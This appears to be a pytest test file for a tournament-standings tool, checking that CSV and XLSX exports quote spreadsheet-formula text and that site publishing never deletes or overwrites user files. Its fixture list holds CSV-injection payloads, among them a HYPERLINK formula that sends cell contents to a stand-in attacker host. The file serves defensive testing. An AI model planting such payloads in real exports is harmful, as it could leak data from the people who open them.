"""2.1 Trust: exports safe to open in a spreadsheet (OWASP CSV injection), and publishing that
never loses a file (one run at a time, nothing deleted that grandprix did not write, located
messages instead of tracebacks, no overwriting without --force)."""

from __future__ import annotations

import csv
import dataclasses
import errno
import io
import os
import re
import shutil
import subprocess
import sys
import zipfile
from decimal import Decimal
from fractions import Fraction
from pathlib import Path

import click.testing
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from conftest import EXAMPLES
from grandprix.cli import main
from grandprix.writers.cells import safe_text

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+cmd",
    "-1+2",
    "@SUM(1)",
    "#N/A",  # openpyxl's error cell, unless typed string
]
PLAIN = "Smith, Jo"  # with the id below, also an input text cell
EVIL_ID = "+44"
EVENTS = ("\tx Open", "=Second")  # readers strip names; TOML keeps a leading tab
PRIZES = ("@Champion", "-Runner-up")
SEASON_TOML = """name = "Injection season"
start = 2012-01-01
end = 2012-12-31

[rules]
preset = "utah-2012"

[rules.prizes]
ties = "pool"

[[rules.prizes.prize]]
name = "@Champion"
amount = 300

[[rules.prizes.prize]]
name = "-Runner-up"
title = "=Cup"

[[events]]
name = "\\tx Open"
date = 2012-03-01
results = "one.csv"

[[events]]
name = "=Second"
date = 2012-04-01
results = "two.csv"
"""
NUMBER = re.compile(r"^\d+(-\d+)?$|^-?\d+(\.\d+)?$")  # places '9-10', points '-1.50'


def invoke(*args: str) -> click.testing.Result:
    return CliRunner().invoke(main, list(args))


def csv_text(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


def write_season(folder: Path, names: list[str]) -> Path:
    """Two events of the given players (the PLAIN one with an id), all in players.csv."""
    folder.mkdir(parents=True)
    (folder / "season.toml").write_text(SEASON_TOML, encoding="utf-8")
    ids = {PLAIN: EVIL_ID}
    for file, order in (("one.csv", names), ("two.csv", names[::-1])):
        rows = [["rank", "name", "id", "points"]]
        rows += [[str(i), n, ids.get(n, ""), str(len(names) - i)] for i, n in enumerate(order, 1)]
        (folder / file).write_text(csv_text(rows), encoding="utf-8")
    players = [["id", "name", "region", "member"]]
    players += [[ids.get(n, ""), n, "UT", "yes"] for n in names]
    (folder / "players.csv").write_text(csv_text(players), encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def season_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_season(tmp_path_factory.mktemp("evil") / "season", [*EVIL, PLAIN])


@pytest.fixture(scope="module")
def site(season_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("site") / "site"
    result = invoke("site", str(season_dir), "-o", str(out))
    assert result.exit_code == 0, result.output
    return out


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula_cell(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (cell, row)
            assert not cell.startswith("-") or NUMBER.match(cell), (cell, row)


def column(rows: list[list[str]], name: str) -> list[str]:
    at = rows[0].index(name)
    return [row[at] for row in rows[1:]]


def snapshot(folder: Path) -> dict[str, bytes | None]:
    """Every file's bytes and every folder (None) under ``folder``."""
    return {
        p.relative_to(folder).as_posix(): None if p.is_dir() else p.read_bytes()
        for p in folder.rglob("*")
    }


# A. Safe exports


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_owasp_text_that_a_spreadsheet_runs_gets_a_quote(start: str) -> None:
    assert safe_text(f"{start}x") == f"'{start}x"


@pytest.mark.parametrize("text", ["", "Smith, Jo", "x=1", "9-10", "'=already", " =x", "#N/A"])
def test_other_text_is_unchanged(text: str) -> None:
    assert safe_text(text) == text


def test_site_standings_csv_quotes_names_and_ids_from_input(site: Path) -> None:
    rows = rows_of((site / "standings.csv").read_text(encoding="utf-8"))
    assert set(column(rows, "name")) == {safe_text(n) for n in [*EVIL, PLAIN]}
    assert "'" + EVIL[0] in column(rows, "name") and "'+44" in column(rows, "player_id")
    assert all(NUMBER.match(v) for v in column(rows, "points") + column(rows, "rank"))
    assert_no_formula_cell(rows)


def test_site_results_csv_quotes_names_events_and_sections(site: Path) -> None:
    rows = rows_of((site / "results.csv").read_text(encoding="utf-8"))
    assert set(column(rows, "event")) == set(column(rows, "section")) == {"'\tx Open", "'=Second"}
    assert "'-1+2" in column(rows, "name") and "'@SUM(1)" in column(rows, "name")
    for name in ("place", "score", "points"):
        assert all(NUMBER.match(v) for v in column(rows, name)), name
    assert_no_formula_cell(rows)


def test_site_json_keeps_the_names_as_given(site: Path) -> None:
    text = (site / "season.json").read_text(encoding="utf-8")
    assert '"name":"=HYPERLINK(\\"http://evil.example/?\\"&A1)"' in text
    assert "'=" not in text


def test_standings_format_csv_on_standard_output_quotes_input_text(season_dir: Path) -> None:
    result = invoke("standings", str(season_dir), "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = rows_of(result.stdout)
    assert rows[0] == ["division", "rank", "player_id", "name", "points", "events"]
    assert set(column(rows, "name")) == {safe_text(n) for n in [*EVIL, PLAIN]}
    assert_no_formula_cell(rows)


def test_prizes_csv_quotes_prize_names_titles_names_and_reasons(season_dir: Path) -> None:
    result = invoke("prizes", str(season_dir), "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = rows_of(result.stdout)
    assert set(column(rows, "prize")) == {"'" + p for p in PRIZES}
    assert "'=Cup" in column(rows, "title")
    assert "'" + EVIL[0] in column(rows, "name")
    assert all(NUMBER.match(v) for v in column(rows, "amount") if v)
    assert_no_formula_cell(rows)


def test_players_csv_quotes_names_and_ids(season_dir: Path) -> None:
    result = invoke("players", str(season_dir), "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = rows_of(result.stdout)
    assert "'+cmd" in column(rows, "name") and "'+44" in column(rows, "ids")
    assert_no_formula_cell(rows)


def test_event_placings_csv_quotes_names(season_dir: Path) -> None:
    result = invoke("event", str(season_dir / "one.csv"), "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = rows_of(result.stdout)
    assert set(column(rows, "name")) == {safe_text(n) for n in [*EVIL, PLAIN]}
    assert "'+44" in column(rows, "id")
    assert_no_formula_cell(rows)


def test_fee_ledger_quotes_names(tmp_path: Path) -> None:
    event = EXAMPLES / "class_championships_2026"
    folder = tmp_path / "event"
    shutil.copytree(event, folder)
    entries = folder / "entries.csv"
    rows = rows_of(entries.read_text(encoding="utf-8"))
    rows[1][rows[0].index("name")] = EVIL[0]
    entries.write_text(csv_text(rows), encoding="utf-8")
    result = invoke("fees", str(folder / "event.toml"))
    assert result.exit_code == 0, result.output
    ledger = rows_of(result.stdout)
    assert "'" + EVIL[0] in column(ledger, "name")
    assert_no_formula_cell(ledger)


def test_xlsx_text_from_input_is_a_string_cell_never_a_formula(site: Path) -> None:
    from openpyxl import load_workbook

    with zipfile.ZipFile(site / "season.xlsx") as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 2
        for name in sheets:
            xml = archive.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml, name
    book = load_workbook(site / "season.xlsx")
    seen = set()
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:  # a string cell, or a number cell of a number we compute
                where = (cell.coordinate, cell.data_type, cell.value)
                if cell.data_type == "n":
                    assert isinstance(cell.value, int | float), where
                    continue
                assert cell.data_type in ("s", "inlineStr"), where
                if cell.value is not None:
                    assert isinstance(cell.value, str) and not cell.value.startswith("="), where
                    seen.add(cell.value)
    assert {safe_text(n) for n in EVIL} | {"'\tx Open", "'=Second", "'+44"} <= seen


def test_xlsx_holds_the_csv_rows_numbers_as_computed(site: Path) -> None:
    """The numbers we compute (rank, points, events, place, score) are in the XLSX just as in
    the CSV files: never quoted, the same value, a number cell (a shared place '9-10' is text)
    shown with the CSV's decimals."""
    from openpyxl import load_workbook

    book = load_workbook(site / "season.xlsx")
    for title, file in (("Standings", "standings.csv"), ("Results", "results.csv")):
        expected = rows_of((site / file).read_text(encoding="utf-8"))
        cells = list(book[title].iter_rows())
        assert len(cells) == len(expected), title
        for row, got in zip(expected, cells, strict=True):
            for text, cell in zip(row, got, strict=True):
                if isinstance(cell.value, int | float):  # the CSV's decimal, with its decimals
                    assert Decimal(text) == Decimal(repr(cell.value)), (cell.coordinate, text)
                    decimals = len(text.partition(".")[2])
                    assert cell.number_format == ("0." + "0" * decimals if decimals else "General")
                else:
                    assert (cell.value or "") == text, (cell.coordinate, text)
        for name in ("points", "rank", "place", "score", "events"):
            if name in expected[0]:
                assert all(NUMBER.match(v) for v in column(expected, name)), name
                at = expected[0].index(name)
                numbers = [row[at].value for row in cells[1:] if "-" not in str(row[at].value)]
                assert all(isinstance(v, int | float) for v in numbers), (title, name)


def test_a_negative_number_we_compute_is_never_quoted(season_dir: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from grandprix.reports.exports import write_exports
    from grandprix.reports.standings import standings_csv
    from grandprix.season.config import load_season
    from grandprix.season.standings import division_standings

    season, _ = load_season(season_dir)
    assert season is not None
    tables = [
        (name, [dataclasses.replace(line, total=Fraction(-3, 2)) for line in lines])
        for name, lines in division_standings(season)
    ]
    assert set(column(rows_of(standings_csv(tables, 2)), "points")) == {"-1.50"}
    write_exports(tmp_path, season, tables)
    assert set(column(rows_of((tmp_path / "standings.csv").read_text()), "points")) == {"-1.50"}
    sheet = load_workbook(tmp_path / "season.xlsx")["Standings"]
    assert {(row[4].value, row[4].number_format) for row in sheet.iter_rows(min_row=2)} == {
        (-1.5, "0.00")
    }
    with zipfile.ZipFile(tmp_path / "season.xlsx") as book:  # the decimal as the CSV has it
        assert "<v>-1.50</v>" in book.read("xl/worksheets/sheet1.xml").decode()


# B. Publishing never loses a file


def test_a_run_while_another_holds_the_lock_exits_2(season_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "site"
    hold = (
        "import fcntl, sys; f = open(sys.argv[1], 'a'); fcntl.flock(f, fcntl.LOCK_EX); "
        "print('held', flush=True); sys.stdin.read()"
    )
    holder = subprocess.Popen(
        [sys.executable, "-c", hold, str(tmp_path / ".site.lock")],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline() == "held\n"
        result = invoke("site", str(season_dir), "-o", str(out))
    finally:
        holder.communicate("")
    assert result.exit_code == 2, result.output
    assert "another 'grandprix site' is writing this folder" in result.stderr
    assert str(out) in result.stderr
    assert not out.exists()
    assert invoke("site", str(season_dir), "-o", str(out)).exit_code == 0  # free again


def test_files_added_to_an_earlier_site_are_never_deleted(season_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "site"
    assert invoke("site", str(season_dir), "-o", str(out)).exit_code == 0
    (out / "CNAME").write_text("gp.example.org\n")
    (out / ".git").mkdir()
    (out / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (out / "photos").mkdir()
    (out / "photos" / "prize-giving.jpg").write_bytes(b"\xff\xd8\xff")
    before = snapshot(out)
    result = invoke("site", str(season_dir), "-o", str(out))
    assert result.exit_code == 2, result.output
    assert "holds .git, CNAME, photos, which the earlier site did not write" in result.stderr
    assert "move them out" in result.stderr
    assert snapshot(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["site"]


def test_a_file_added_inside_a_sites_folder_is_never_deleted(
    season_dir: Path, tmp_path: Path
) -> None:
    out = tmp_path / "site"
    assert invoke("site", str(season_dir), "-o", str(out)).exit_code == 0
    (out / "players" / "me.jpg").write_bytes(b"\xff\xd8\xff")
    before = snapshot(out)
    result = invoke("site", str(season_dir), "-o", str(out))
    assert result.exit_code == 2 and "players/me.jpg" in result.stderr
    assert snapshot(out) == before


def test_an_earlier_site_without_a_listing_is_judged_by_what_a_site_holds(
    season_dir: Path, tmp_path: Path
) -> None:
    """A site written before its marker listed the files: its own files are replaced, any
    other file refuses the run."""
    out = tmp_path / "site"
    assert invoke("site", str(season_dir), "-o", str(out)).exit_code == 0
    old_marker = "written by grandprix site; replaced whole by the next run\n"
    (out / ".grandprix-site").write_text(old_marker)
    assert invoke("site", str(season_dir), "-o", str(out)).exit_code == 0
    (out / ".grandprix-site").write_text(old_marker)
    (out / "CNAME").write_text("gp.example.org\n")
    result = invoke("site", str(season_dir), "-o", str(out))
    assert result.exit_code == 2 and "holds CNAME" in result.stderr
    assert (out / "CNAME").exists()


def test_a_users_sibling_old_and_building_folders_are_untouched(
    season_dir: Path, tmp_path: Path
) -> None:
    for name in (".site.old", ".site.building"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "keep.txt").write_text("mine")
    before = {name: snapshot(tmp_path / name) for name in (".site.old", ".site.building")}
    out = tmp_path / "site"
    for _ in range(2):  # written, then replaced
        result = invoke("site", str(season_dir), "-o", str(out))
        assert result.exit_code == 0, result.output
    assert {name: snapshot(tmp_path / name) for name in before} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == [".site.building", ".site.old", "site"]


def test_a_325_character_name_without_an_id_builds(tmp_path: Path) -> None:
    long_name = ("Kowalczyk-Wisniewska " * 16)[:325]
    folder = write_season(tmp_path / "season", [long_name, PLAIN, "Ng, Al"])
    toml = folder / "season.toml"
    toml.write_text(toml.read_text().replace("=Second", "Open " * 60), encoding="utf-8")
    out = tmp_path / "site"
    result = invoke("site", str(folder), "-o", str(out))
    assert result.exit_code == 0, result.output
    names = [p.name for p in out.rglob("*")]
    assert max(len(n.encode()) for n in names) <= 90
    from html import escape

    pages = [p for p in (out / "players").iterdir() if escape(long_name) in p.read_text()]
    assert len(pages) == 1


def test_an_unwritable_place_for_the_site_exits_2_with_a_located_message(
    season_dir: Path, tmp_path: Path
) -> None:
    parent = tmp_path / "readonly"
    parent.mkdir()
    assert invoke("site", str(season_dir), "-o", str(parent / "site")).exit_code == 0
    before = snapshot(parent)
    parent.chmod(0o555)
    try:
        if os.access(parent, os.W_OK):  # as root, permissions do not stop a write
            blocker = tmp_path / "notes.txt"
            blocker.write_text("a file, not a folder")
            out, where, why = blocker / "sub" / "site", blocker / "sub", "not a directory"
        else:
            out, where, why = parent / "site", parent / ".site.lock", "permission denied"
        result = invoke("site", str(season_dir), "-o", str(out))
    finally:
        parent.chmod(0o755)
    assert result.exit_code == 2, result.output
    assert f"error: {where}: {why}; the site was not written and {out} is as it was" in (
        result.stderr
    )
    assert "Traceback" not in result.output
    assert snapshot(parent) == before


def test_a_write_error_mid_build_is_located_and_keeps_the_old_site(
    season_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "site"
    assert invoke("site", str(season_dir), "-o", str(out)).exit_code == 0
    before = snapshot(out)

    def refused(folder: Path, *args: object) -> list[str]:
        path = folder / "standings.csv"
        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(path))

    monkeypatch.setattr("grandprix.site.build.write_exports", refused)
    result = invoke("site", str(season_dir), "-o", str(out))
    assert result.exit_code == 2, result.output
    assert re.search(
        r"error: \S+/standings\.csv: permission denied; the site was not written", result.stderr
    )
    assert snapshot(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["site"]


# C. export -o refuses to overwrite without --force

EVENT = EXAMPLES / "class_championships_2026" / "event.toml"


def test_export_never_overwrites_without_force(tmp_path: Path) -> None:
    out = tmp_path / "trf"
    assert invoke("export", str(EVENT), "-o", str(out)).exit_code == 0
    files = sorted(out.iterdir())
    assert len(files) >= 2
    kept, removed = files[0], files[1]
    kept.write_text("mine\n")
    removed.unlink()
    result = invoke("export", str(EVENT), "-o", str(out))
    assert result.exit_code == 2, result.output
    assert str(kept) in result.stderr and "--force" in result.stderr
    assert str(removed) not in result.stderr
    assert kept.read_text() == "mine\n"
    assert not removed.exists()  # nothing at all is written
    assert result.stdout == ""


def test_export_with_force_overwrites(tmp_path: Path) -> None:
    out = tmp_path / "trf"
    assert invoke("export", str(EVENT), "-o", str(out)).exit_code == 0
    first = {p.name: p.read_text() for p in out.iterdir()}
    for path in out.iterdir():
        path.write_text("mine\n")
    result = invoke("export", str(EVENT), "-o", str(out), "--force")
    assert result.exit_code == 0, result.output
    assert {p.name: p.read_text() for p in out.iterdir()} == first


def test_a_carriage_return_inside_a_name_keeps_its_csv_row_whole(tmp_path: Path) -> None:
    """Found by the review of the XLSX writer: with lines ending in \\n, Python's CSV writer
    does not quote a lone \\r, and the row read back was split in two."""
    from grandprix.writers.cells import CsvRows

    out = io.StringIO()
    rows = [["1", "Ann\rLee", "12"], ["2", "Bo, Yu", "3"], ["3", "plain", "0"]]
    CsvRows(out).writerows(rows)
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == rows
    assert out.getvalue().endswith('2,"Bo, Yu",3\n3,plain,0\n')  # other rows as before


def test_csv_rows_written_in_chunks_are_the_rows_written_one_by_one() -> None:
    """writerows buffers a thousand rows at a time; a chunk with a carriage return anywhere is
    written row by row, so only that row is fully quoted, in whichever chunk it falls."""
    from grandprix.writers.cells import CsvRows

    rows = [[str(i), f"Player {i}", "x\ry" if i in (5, 2500) else "plain", i] for i in range(3001)]
    one_by_one, chunked = io.StringIO(), io.StringIO()
    single = CsvRows(one_by_one)
    for row in rows:
        single.writerow(row)
    CsvRows(chunked).writerows(iter(row) for row in rows)  # rows that can be read only once
    assert chunked.getvalue() == one_by_one.getvalue()
    assert chunked.getvalue().count('"x\ry"') == 2
    assert '"2499","Player 2499"' not in chunked.getvalue()  # its neighbours stay plain


_CELL = st.one_of(
    st.text(alphabet=st.sampled_from(["a", "B", " ", ",", '"', "\r", "\n", "é", "'"]), max_size=4),
    st.integers(-3, 12),
)


@given(st.lists(st.lists(_CELL, max_size=4), max_size=30))
def test_csv_rows_written_by_commas_are_the_csv_writers_rows(rows: list[list[object]]) -> None:
    """writerows joins a chunk's cells with commas only where Python's writer would write the
    same text: any comma, quote, carriage return or line feed in a cell, a cell that is not
    text, an empty row or a row of one empty cell sends the chunk to the writer."""
    from grandprix.writers.cells import CsvRows

    one_by_one, chunked = io.StringIO(), io.StringIO()
    single = CsvRows(one_by_one)
    for row in rows:
        single.writerow(row)
    CsvRows(chunked).writerows(rows)
    assert chunked.getvalue() == one_by_one.getvalue()


def test_csv_rows_of_plain_text_are_joined_by_commas() -> None:
    """The common chunk (every cell plain text) is written as its cells joined by commas, and a
    chunk with one cell that needs quoting is quoted as the writer quotes it."""
    from grandprix.writers import cells

    plain: list[list[object]] = [["1", "Ann Lee", "2.50"], ["2", "", "0"]]
    assert cells._plain(plain) == "1,Ann Lee,2.50\n2,,0\n"
    odds: list[list[object]] = [["Bo, Yu"], ['say "hi"'], ["a\nb"], ["a\rb"], [""], [], [3]]
    for odd in odds:
        assert cells._plain([*plain, odd]) is None, odd
    out = io.StringIO()
    cells.CsvRows(out).writerows([*plain, ["3", "Bo, Yu", "1"]])
    assert out.getvalue().endswith('3,"Bo, Yu",1\n')
